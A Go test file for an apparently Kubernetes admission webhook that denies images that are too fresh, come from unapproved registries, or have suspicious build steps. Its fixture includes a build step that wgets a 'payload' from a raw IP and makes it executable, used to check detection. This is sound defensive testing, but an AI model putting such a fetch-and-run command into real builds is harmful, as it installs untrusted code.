package webhook_test

import (
	"bytes"
	"encoding/json"
	"flag"
	"log/slog"
	"net/http"
	"os"
	"path/filepath"
	"strings"
	"testing"
	"time"

	admissionv1 "k8s.io/api/admission/v1"
	appsv1 "k8s.io/api/apps/v1"
	batchv1 "k8s.io/api/batch/v1"
	corev1 "k8s.io/api/core/v1"
	metav1 "k8s.io/apimachinery/pkg/apis/meta/v1"
	"k8s.io/apimachinery/pkg/runtime"

	"buildguard.dev/buildguard/engine"
	"buildguard.dev/buildguard/internal/clock/clocktest"
	"buildguard.dev/buildguard/internal/testregistry"
	"buildguard.dev/buildguard/policy"
	"buildguard.dev/buildguard/registry"
	"buildguard.dev/buildguard/webhook"
)

var update = flag.Bool("update", false, "rewrite golden files")

var now = time.Date(2026, 11, 26, 12, 0, 0, 0, time.UTC)

// fixture is a registry holding a clean image, a fresh one, and one whose
// build downloaded from a raw IP, and a handler judging against it.
type fixture struct {
	reg     *testregistry.Registry
	handler *webhook.Handler
	clean   string
	fresh   string
	rawIP   string
}

func newFixture(t testing.TB, policyYAML string) *fixture {
	t.Helper()
	reg := testregistry.New(t)
	f := &fixture{reg: reg}
	reg.Push(t, "acme/shop:1.4", testregistry.Build(t, testregistry.Image{Created: now.Add(-72 * time.Hour),
		Steps: []string{"/bin/sh -c #(nop) ADD file:0a1b in / ", "RUN /bin/sh -c apt-get update && apt-get install -y ca-certificates # buildkit"}}))
	reg.Push(t, "acme/hotfix:1", testregistry.Build(t, testregistry.Image{Created: now.Add(-12 * time.Second),
		Steps: []string{"COPY app /app # buildkit"}}))
	reg.Push(t, "acme/tool:2", testregistry.Build(t, testregistry.Image{Created: now.Add(-48 * time.Hour),
		Steps: []string{"RUN /bin/sh -c wget -q http://203.0.113.9:8080/payload -O /usr/bin/p && chmod +x /usr/bin/p # buildkit"}}))
	f.clean, f.fresh, f.rawIP = reg.Host+"/acme/shop:1.4", reg.Host+"/acme/hotfix:1", reg.Host+"/acme/tool:2"
	if policyYAML == "" {
		policyYAML = "apiVersion: buildguard.dev/v1alpha1\nkind: Policy\nregistries:\n  allow: [\"127.0.0.1:*/acme/*\"]\n  insecure: [\"127.0.0.1:*\"]\n"
	}
	p, err := policy.Parse([]byte(policyYAML))
	if err != nil {
		t.Fatal(err)
	}
	clock := clocktest.New(now)
	f.handler = &webhook.Handler{Evaluator: &engine.Engine{
		Policies: engine.PolicyFunc(func() *policy.Policy { return p }),
		Resolver: registry.New(registry.WithTransport(http.DefaultTransport), registry.WithClock(clock)),
		Clock:    clock,
	}}
	return f
}

func raw(t testing.TB, o runtime.Object) runtime.RawExtension {
	t.Helper()
	b, err := json.Marshal(o)
	if err != nil {
		t.Fatal(err)
	}
	return runtime.RawExtension{Raw: b}
}

func spec(images ...string) corev1.PodSpec {
	var s corev1.PodSpec
	for i, img := range images {
		s.Containers = append(s.Containers, corev1.Container{Name: []string{"app", "sidecar", "third"}[i], Image: img})
	}
	return s
}

func tmpl(images ...string) corev1.PodTemplateSpec {
	return corev1.PodTemplateSpec{Spec: spec(images...)}
}

// workload returns an object of kind carrying images in its pod spec, and
// the kind's group/version/kind.
func workload(kind string, images ...string) (runtime.Object, metav1.GroupVersionKind) {
	om := metav1.ObjectMeta{Name: "shop", Namespace: "shop"}
	switch kind {
	case "Pod":
		return &corev1.Pod{ObjectMeta: om, Spec: spec(images...)}, metav1.GroupVersionKind{Version: "v1", Kind: kind}
	case "ReplicationController":
		t := tmpl(images...)
		return &corev1.ReplicationController{ObjectMeta: om, Spec: corev1.ReplicationControllerSpec{Template: &t}}, metav1.GroupVersionKind{Version: "v1", Kind: kind}
	case "Deployment":
		return &appsv1.Deployment{ObjectMeta: om, Spec: appsv1.DeploymentSpec{Template: tmpl(images...)}}, metav1.GroupVersionKind{Group: "apps", Version: "v1", Kind: kind}
	case "ReplicaSet":
		return &appsv1.ReplicaSet{ObjectMeta: om, Spec: appsv1.ReplicaSetSpec{Template: tmpl(images...)}}, metav1.GroupVersionKind{Group: "apps", Version: "v1", Kind: kind}
	case "StatefulSet":
		return &appsv1.StatefulSet{ObjectMeta: om, Spec: appsv1.StatefulSetSpec{Template: tmpl(images...)}}, metav1.GroupVersionKind{Group: "apps", Version: "v1", Kind: kind}
	case "DaemonSet":
		return &appsv1.DaemonSet{ObjectMeta: om, Spec: appsv1.DaemonSetSpec{Template: tmpl(images...)}}, metav1.GroupVersionKind{Group: "apps", Version: "v1", Kind: kind}
	case "Job":
		return &batchv1.Job{ObjectMeta: om, Spec: batchv1.JobSpec{Template: tmpl(images...)}}, metav1.GroupVersionKind{Group: "batch", Version: "v1", Kind: kind}
	case "CronJob":
		return &batchv1.CronJob{ObjectMeta: om, Spec: batchv1.CronJobSpec{Schedule: "@hourly", JobTemplate: batchv1.JobTemplateSpec{Spec: batchv1.JobSpec{Template: tmpl(images...)}}}},
			metav1.GroupVersionKind{Group: "batch", Version: "v1", Kind: kind}
	}
	panic("unknown kind " + kind)
}

func request(t testing.TB, op admissionv1.Operation, obj runtime.Object, gvk metav1.GroupVersionKind) *admissionv1.AdmissionRequest {
	return &admissionv1.AdmissionRequest{
		UID: "0d2d9bd5-8b4e-4a3e-9c2f-7f6b0a1c2d3e", Kind: gvk, Namespace: "shop", Name: "shop", Operation: op, Object: raw(t, obj),
	}
}

var allKinds = []string{"Pod", "ReplicationController", "Deployment", "ReplicaSet", "StatefulSet", "DaemonSet", "Job", "CronJob"}

func TestReviewEveryKind(t *testing.T) {
	f := newFixture(t, "")
	for _, kind := range allKinds {
		for _, tt := range []struct {
			name      string
			op        admissionv1.Operation
			images    []string
			allowed   bool
			wantRules string
		}{
			{"clean", admissionv1.Create, []string{f.clean}, true, ""},
			{"fresh", admissionv1.Create, []string{f.clean, f.fresh}, false, "fresh-image"},
			{"raw IP download on update", admissionv1.Update, []string{f.rawIP}, false, "suspicious-build-step"},
			{"unapproved registry", admissionv1.Create, []string{"evil.example/acme/x:1"}, false, "unapproved-registry"},
			{"not found", admissionv1.Create, []string{f.reg.Host + "/acme/local:dev"}, false, "unresolvable-image"},
		} {
			t.Run(kind+"/"+tt.name, func(t *testing.T) {
				obj, gvk := workload(kind, tt.images...)
				resp := f.handler.Review(t.Context(), request(t, tt.op, obj, gvk))
				if resp.UID != "0d2d9bd5-8b4e-4a3e-9c2f-7f6b0a1c2d3e" {
					t.Errorf("UID = %q, want the request's", resp.UID)
				}
				if resp.Allowed != tt.allowed {
					t.Fatalf("Review(%s %s) allowed = %v, want %v (result %+v)", kind, tt.name, resp.Allowed, tt.allowed, resp.Result)
				}
				if got := resp.AuditAnnotations["rules"]; got != tt.wantRules {
					t.Errorf("rules annotation = %q, want %q", got, tt.wantRules)
				}
				if !tt.allowed {
					msg := resp.Result.Message
					if resp.Result.Code != http.StatusForbidden || !strings.Contains(msg, kind) || !strings.Contains(msg, "["+tt.wantRules+"]") || !strings.Contains(msg, "exception") {
						t.Errorf("denial = %d %q, want 403 naming the kind, the rule and how to get an exception", resp.Result.Code, msg)
					}
				}
				if tt.allowed && !strings.Contains(resp.AuditAnnotations["digests"], "sha256:") {
					t.Errorf("digests annotation = %q, want the judged digests", resp.AuditAnnotations["digests"])
				}
			})
		}
	}
}

func TestReviewContainerLists(t *testing.T) {
	f := newFixture(t, "")
	for _, tt := range []struct {
		name string
		pod  corev1.PodSpec
	}{
		{"initContainer", corev1.PodSpec{InitContainers: []corev1.Container{{Name: "init", Image: f.fresh}}, Containers: []corev1.Container{{Name: "app", Image: f.clean}}}},
		{"ephemeralContainer", corev1.PodSpec{Containers: []corev1.Container{{Name: "app", Image: f.clean}},
			EphemeralContainers: []corev1.EphemeralContainer{{EphemeralContainerCommon: corev1.EphemeralContainerCommon{Name: "debug", Image: f.fresh}}}}},
	} {
		t.Run(tt.name, func(t *testing.T) {
			req := request(t, admissionv1.Update, &corev1.Pod{ObjectMeta: metav1.ObjectMeta{Name: "shop"}, Spec: tt.pod}, metav1.GroupVersionKind{Version: "v1", Kind: "Pod"})
			if tt.name == "ephemeralContainer" {
				req.SubResource = "ephemeralcontainers"
			}
			resp := f.handler.Review(t.Context(), req)
			if resp.Allowed || !strings.Contains(resp.Result.Message, tt.name) {
				t.Errorf("Review = allowed %v %+v, want a denial naming the %s", resp.Allowed, resp.Result, tt.name)
			}
		})
	}
}

func TestReviewModes(t *testing.T) {
	for _, tt := range []struct {
		mode        string
		allowed     bool
		wantVerdict string
		wantWarning string
	}{
		{"enforce", false, "deny", ""},
		{"warn", true, "would-deny", "buildguard would deny (warn mode): app: [fresh-image] created 12s before admission, minAge 10m"},
		{"audit", true, "would-deny", "buildguard would deny (audit mode): app: [fresh-image] created 12s before admission, minAge 10m"},
	} {
		t.Run(tt.mode, func(t *testing.T) {
			f := newFixture(t, "apiVersion: buildguard.dev/v1alpha1\nkind: Policy\nmode: "+tt.mode+"\nregistries:\n  allow: [\"127.0.0.1:*/acme/*\"]\n  insecure: [\"127.0.0.1:*\"]\n")
			obj, gvk := workload("Pod", f.fresh)
			resp := f.handler.Review(t.Context(), request(t, admissionv1.Create, obj, gvk))
			if resp.Allowed != tt.allowed || resp.AuditAnnotations["verdict"] != tt.wantVerdict || resp.AuditAnnotations["mode"] != tt.mode {
				t.Errorf("Review = allowed %v annotations %v, want %v verdict %s mode %s", resp.Allowed, resp.AuditAnnotations, tt.allowed, tt.wantVerdict, tt.mode)
			}
			if tt.wantWarning != "" && (len(resp.Warnings) != 1 || resp.Warnings[0] != tt.wantWarning) {
				t.Errorf("warnings = %q, want one equal to %q", resp.Warnings, tt.wantWarning)
			}
			for _, w := range resp.Warnings {
				if len(w) > 120 {
					t.Errorf("warning %q is %d bytes, want ≤ 120", w, len(w))
				}
			}
		})
	}
}

func TestReviewNotJudged(t *testing.T) {
	f := newFixture(t, "")
	obj, gvk := workload("Pod", f.fresh)
	for _, tt := range []struct {
		name string
		mut  func(*admissionv1.AdmissionRequest)
	}{
		{"delete", func(r *admissionv1.AdmissionRequest) { r.Operation = admissionv1.Delete }},
		{"status subresource", func(r *admissionv1.AdmissionRequest) { r.Operation = admissionv1.Update; r.SubResource = "status" }},
	} {
		t.Run(tt.name, func(t *testing.T) {
			req := request(t, admissionv1.Create, obj, gvk)
			tt.mut(req)
			f.reg.Reset()
			if resp := f.handler.Review(t.Context(), req); !resp.Allowed || f.reg.Count() != 0 {
				t.Errorf("Review = %+v after %d registry requests, want allowed without asking the registry", resp, f.reg.Count())
			}
		})
	}
}

func TestReviewBadObjects(t *testing.T) {
	f := newFixture(t, "")
	for _, tt := range []struct {
		name string
		req  *admissionv1.AdmissionRequest
		want string
	}{
		{"unknown kind", &admissionv1.AdmissionRequest{UID: "u", Operation: admissionv1.Create, Kind: metav1.GroupVersionKind{Version: "v1", Kind: "ConfigMap"}, Object: runtime.RawExtension{Raw: []byte(`{}`)}},
			"buildguard does not handle v1 ConfigMap"},
		{"object of the wrong shape", &admissionv1.AdmissionRequest{UID: "u", Operation: admissionv1.Create, Kind: metav1.GroupVersionKind{Group: "apps", Version: "v1", Kind: "Deployment"}, Object: runtime.RawExtension{Raw: []byte(`{"spec":"nope"}`)}},
			"request object is not a valid apps/v1 Deployment"},
		{"no object", &admissionv1.AdmissionRequest{UID: "u", Operation: admissionv1.Create, Kind: metav1.GroupVersionKind{Version: "v1", Kind: "Pod"}},
			"request.object is empty"},
	} {
		t.Run(tt.name, func(t *testing.T) {
			resp := f.handler.Review(t.Context(), tt.req)
			if resp.Allowed || resp.Result == nil || resp.Result.Code != http.StatusBadRequest || !strings.Contains(resp.Result.Message, tt.want) {
				t.Errorf("Review = %+v, want a 400 saying %q", resp.Result, tt.want)
			}
		})
	}
}

// TestDenialGolden keeps the full response a person and the API server
// see for a denial; run with -update after an intended change.
func TestDenialGolden(t *testing.T) {
	f := newFixture(t, "")
	obj, gvk := workload("Deployment", f.clean, f.fresh, f.rawIP)
	resp := f.handler.Review(t.Context(), request(t, admissionv1.Create, obj, gvk))
	got, err := json.MarshalIndent(resp, "", "  ")
	if err != nil {
		t.Fatal(err)
	}
	// The registry's port and the random images' digests change per run.
	s := strings.ReplaceAll(string(got), f.reg.Host, "registry.test")
	s = digestRE.ReplaceAllString(s, "sha256:…")
	golden := filepath.Join("testdata", "deny-deployment.golden.json")
	if *update {
		if err := os.WriteFile(golden, []byte(s+"\n"), 0o644); err != nil {
			t.Fatal(err)
		}
	}
	want, err := os.ReadFile(golden)
	if err != nil {
		t.Fatalf("%v (run go test -update to create it)", err)
	}
	if strings.TrimSpace(string(want)) != s {
		t.Errorf("denial response differs from %s (run with -update if intended):\ngot:\n%s\nwant:\n%s", golden, s, want)
	}
}

// TestDecisionLogLevels: an allow is logged at debug, every other
// decision at info.
func TestDecisionLogLevels(t *testing.T) {
	for _, tt := range []struct {
		name, mode string
		image      func(*fixture) string
		verdict    string
	}{
		{"allow", "enforce", func(f *fixture) string { return f.clean }, "allow"},
		{"deny", "enforce", func(f *fixture) string { return f.fresh }, "deny"},
		{"would-deny", "warn", func(f *fixture) string { return f.fresh }, "deny"},
	} {
		t.Run(tt.name, func(t *testing.T) {
			f := newFixture(t, "apiVersion: buildguard.dev/v1alpha1\nkind: Policy\nmode: "+tt.mode+"\nregistries:\n  allow: [\"127.0.0.1:*/acme/*\"]\n  insecure: [\"127.0.0.1:*\"]\n")
			var buf bytes.Buffer
			f.handler.Log = slog.New(slog.NewJSONHandler(&buf, &slog.HandlerOptions{Level: slog.LevelDebug}))
			obj, gvk := workload("Pod", tt.image(f))
			f.handler.Review(t.Context(), request(t, admissionv1.Create, obj, gvk))
			var line struct{ Level, Msg, Verdict string }
			for _, l := range bytes.Split(bytes.TrimSpace(buf.Bytes()), []byte("\n")) {
				if err := json.Unmarshal(l, &line); err == nil && line.Msg == "decided" {
					break
				}
			}
			want := "INFO"
			if tt.name == "allow" {
				want = "DEBUG"
			}
			if line.Msg != "decided" || line.Level != want || line.Verdict != tt.verdict {
				t.Errorf("decided line = %+v, want level %s verdict %s; log:\n%s", line, want, tt.verdict, buf.Bytes())
			}
		})
	}
}
